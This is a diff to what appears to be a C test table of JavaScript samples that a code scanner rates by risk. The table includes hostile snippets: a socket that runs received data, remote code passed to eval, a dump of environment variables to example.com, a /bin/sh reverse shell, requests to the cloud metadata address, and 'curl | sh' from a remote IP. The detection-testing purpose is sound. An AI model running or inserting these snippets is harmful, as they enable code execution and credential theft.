@@ -36,6 +36,8 @@ static const struct { const char *name; int level; const char *code; } row[] = {
 	{ "what an emitter hands on", BLOCKED, "const e = new (require('events'))();\nrequire('net').connect(1, 'example.com').on('data', d => e.emit('go', d));\ne.on('go', c => require('child_process').exec(String(c)));\n" },
 	{ "a module wrapped by a compiler", BLOCKED, "var __importDefault = function (m) { return m && m.__esModule ? m : { default: m }; };\nconst a = __importDefault(require('axios'));\na.default.get('https://example.com').then(r => eval(r.data));\n" },
 	{ "a program written to a file", HIGH, "require('fs').writeFileSync('a.js', \"require('https').get('https://example.com/?' + JSON.stringify(process.env));\");\n" },
+	{ "an address that is asked for", HIGH, "const http = require('http');\nconst get = o => http.get(o, () => {});\nget('http://169.254.169.254/latest/');\nget({ host: '169.254.169.254', path: '/a' });\n" },
+	{ "a map by an unknown key", BLOCKED, "const m = new Map([['linux', 'curl -s http://198.51.100.7/a | sh'], ['win32', 'dir']]);\nrequire('child_process').exec(m.get(process.platform));\n" },
 	{ "tools by an unknown key", MEDIUM, "const t = { js: ['eslint', ['.']], py: ['ruff', ['check']] };\nconst [c, a] = t[process.argv[2]];\nrequire('child_process').spawnSync(c, a);\n" },
 	/* shells on connections */
 	{ "a shell on a connection", BLOCKED, "const c = require('net').connect(1, 'example.com'), sh = require('child_process').spawn('/bin/sh');\nc.pipe(sh.stdin); sh.stdout.pipe(c);\n" },
